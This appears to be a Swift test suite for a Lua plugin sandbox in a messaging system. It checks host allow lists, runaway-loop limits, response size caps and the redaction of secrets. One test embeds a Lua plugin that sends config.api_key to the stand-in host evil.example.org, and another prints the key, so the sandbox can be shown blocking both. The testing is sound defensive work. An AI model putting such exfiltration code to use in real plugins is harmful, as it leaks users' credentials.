@testable import CrescentChannels
import CrescentLua
import Foundation
import Testing

/// Plugins that misbehave, hosts outside the allow list, and secrets that must not leak.
struct SandboxingTests {
    @Test func aHostOutsideTheAllowListIsRefused() async throws {
        let gateway = try FakeHTTPGateway.start()
        defer { gateway.shutdown() }
        let lua = """
        function send(m)
          http.request{ url = "http://evil.example.org/steal", body = config.api_key }
          return { status = "sent" }
        end
        """
        let (dispatcher, ledger, runtime) = try await TestPlugin.dispatcher(gateway: gateway, lua: lua)
        defer { runtime.stop() }
        let outcome = await dispatcher.send(TestPlugin.message(20))
        #expect(outcome.status == .failed && outcome.attempts == 1)
        #expect(outcome.reason?.contains("host \"evil.example.org\" is not in allowed_hosts") == true)
        #expect(gateway.requests.isEmpty)
        #expect(await ledger.records.first?.status == .failed)
    }

    @Test func aPluginThatErrorsIsRecordedFailed() async throws {
        let gateway = try FakeHTTPGateway.start()
        defer { gateway.shutdown() }
        let lua = "function send(m) local x = nil; return x.field end"
        let (dispatcher, ledger, runtime) = try await TestPlugin.dispatcher(gateway: gateway, lua: lua)
        defer { runtime.stop() }
        let outcome = await dispatcher.send(TestPlugin.message(21))
        #expect(outcome.status == .failed && outcome.attempts == 1)
        #expect(outcome.reason?.contains("plugin.lua:1") == true)
        #expect(await ledger.records.map(\.status) == [.failed])
    }

    @Test func aPluginThatLoopsIsStoppedBySandboxLimits() async throws {
        let gateway = try FakeHTTPGateway.start()
        defer { gateway.shutdown() }
        let lua = "function send(m) while true do end end"
        let limits = SandboxLimits(instructions: 2_000_000, memoryBytes: 16 << 20, seconds: 2)
        let (dispatcher, _, runtime) = try await TestPlugin.dispatcher(gateway: gateway, lua: lua, limits: limits)
        defer { runtime.stop() }
        let started = Date()
        let outcome = await dispatcher.send(TestPlugin.message(22))
        #expect(outcome.status == .failed && outcome.attempts == 1)
        #expect(outcome.reason?.contains("plugin stopped by the sandbox (budget)") == true)
        #expect(Date().timeIntervalSince(started) < 2)
        // The plugin's sandbox stays usable after the stop.
        let next = await dispatcher.send(TestPlugin.message(23))
        #expect(next.status == .failed)
    }

    @Test func aResponseOverTheSizeCapIsRefused() async throws {
        let gateway = try FakeHTTPGateway.start(script: [.respond(200, body: String(repeating: "x", count: 10_000))])
        defer { gateway.shutdown() }
        let (dispatcher, _, runtime) = try await TestPlugin.dispatcher(gateway: gateway)
        defer { runtime.stop() }
        let outcome = await dispatcher.send(TestPlugin.message(24))
        #expect(outcome.status == .failed)
        #expect(outcome.reason?.contains("larger than 4096 bytes") == true)
    }

    @Test func secretsNeverReachReasonsOrPrintedOutput() async throws {
        // The gateway echoes the Authorization header back in its error body.
        let gateway = try FakeHTTPGateway.start(script: [.respond(401, body: "bad token Bearer \(TestPlugin.secret)")])
        defer { gateway.shutdown() }
        let lua = TestPlugin.httpLua + "\nprint('key is ' .. config.api_key)"
        let (dispatcher, ledger, runtime) = try await TestPlugin.dispatcher(gateway: gateway, lua: lua)
        defer { runtime.stop() }
        let outcome = await dispatcher.send(TestPlugin.message(25))
        #expect(outcome.status == .failed)
        #expect(outcome.reason?.contains("[redacted]") == true)
        for record in await ledger.records { #expect(!(record.reason ?? "").contains(TestPlugin.secret)) }
        #expect(gateway.requests.first?.header("Authorization") == "Bearer \(TestPlugin.secret)")

        let lines = try await PluginTestHarness.run(folder: TestPlugin.repoRoot + "/plugins/sms",
                                                    environment: ["CRESCENT_SMS__API_KEY": TestPlugin.secret])
        let output = lines.joined(separator: "\n")
        #expect(!output.contains(TestPlugin.secret))
        #expect(output.contains("Authorization: Bearer [redacted]"))
        #expect(output.contains("run1-sms-1001: sent after 1 attempt(s)"))
    }
}
